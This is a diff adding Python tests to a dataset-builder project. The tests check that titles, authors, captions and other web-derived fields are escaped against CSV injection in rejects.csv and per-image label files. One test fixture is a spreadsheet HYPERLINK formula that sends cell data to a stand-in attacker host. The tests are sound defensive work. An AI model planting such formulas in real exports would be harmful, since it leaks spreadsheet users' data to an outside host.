@@ -39,8 +39,9 @@ from builder.records import (ACCEPTED_SCHEMA, REJECT_SCHEMA, ROW_SCHEMA, Candida
 from builder.rights import Signal
 from builder.spec import OutputSpec, parse_spec
 from builder.journal import Journal
-from builder.writers import (REJECT_CSV_COLUMNS, DatasetPublisher, ShardWriter, is_complete,
-                             read_dataset, read_marker, shard_order, write_rejects)
+from builder.writers import (REJECT_CSV_COLUMNS, DatasetPublisher, ShardWriter, image_label_info,
+                             is_complete, read_dataset, read_marker, render_image_label,
+                             shard_order, write_rejects)
 
 LABELS = ["cat", "mammals/dog", "mammals/whale"]
 SPLITS = ["train", "train", "validation", "test"]
@@ -665,6 +666,39 @@ def test_a_bare_carriage_return_in_a_reject_keeps_its_row_whole_in_rejects_csv(l
     assert dict(zip(rows[0], rows[-1]))["title"] == "a\r\nb"
     assert pa_csv.read_csv(io.BytesIO(text.encode())).num_rows == 3
     assert text.endswith(',404,,,"a\r\nb",,,\n') and "\r\n" not in text.replace("a\r\nb", "")
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2, "open")'
+
+
+def test_text_from_the_web_in_rejects_csv_is_not_a_spreadsheet_formula(local):
+    """A page's title, an author, a caption or a list's "URL" that starts with =, +, - or @
+    was a formula to a spreadsheet opening rejects.csv (CSV injection): it is written with
+    an apostrophe before it there; rejects.parquet keeps it as found, and the label (the
+    spec's) is left as it is."""
+    cut = pa.Table.from_pylist(make_rejects()[:1] + [
+        {"key": "k2", "url": "-2+3", "label": "-cat", "query": "q", "engine": "e",
+         "stage": "fetch", "reason": "bad_url", "detail": "@SUM(1)", "duplicate_of": "",
+         "http_status": 0, "title": HYPERLINK, "author": "+1", "caption": "\t=1"}],
+        schema=REJECT_SCHEMA)
+    fs, root = storage.open_fs(local.uri)
+    assert write_rejects(fs, root, [cut]) == 2
+    rows = list(csv.DictReader(io.StringIO(local.read("rejects.csv").decode(), newline="")))
+    assert rows[0]["url"] == "http://127.0.0.1/bad/0" and rows[0]["detail"] == "detail 0"
+    assert {k: rows[1][k] for k in ("url", "label", "detail", "title", "author", "caption")} \
+        == {"url": "'-2+3", "label": "-cat", "detail": "'@SUM(1)", "title": "'" + HYPERLINK,
+            "author": "'+1", "caption": "'\t=1"}
+    assert pq.read_table(io.BytesIO(local.read("rejects.parquet"))).equals(cut)
+
+
+def test_a_per_image_csv_label_file_holds_no_spreadsheet_formula():
+    row = {"id": "i1", "label": "-cat", "split": "train", "url": "http://h/1.jpg",
+           "page_url": "http://h/p", "license": "@cc", "author": HYPERLINK, "width": 2,
+           "height": 3}
+    info = image_label_info(row, "i1.jpg", 0)
+    got = next(csv.DictReader(io.StringIO(render_image_label("csv", info, 1).decode())))
+    assert (got["label"], got["license"], got["author"]) == ("-cat", "'@cc", "'" + HYPERLINK)
+    assert json.loads(render_image_label("json", info, 1))["author"] == HYPERLINK
 
 
 def test_rejects_that_disagree_with_the_counts_are_not_published(local):
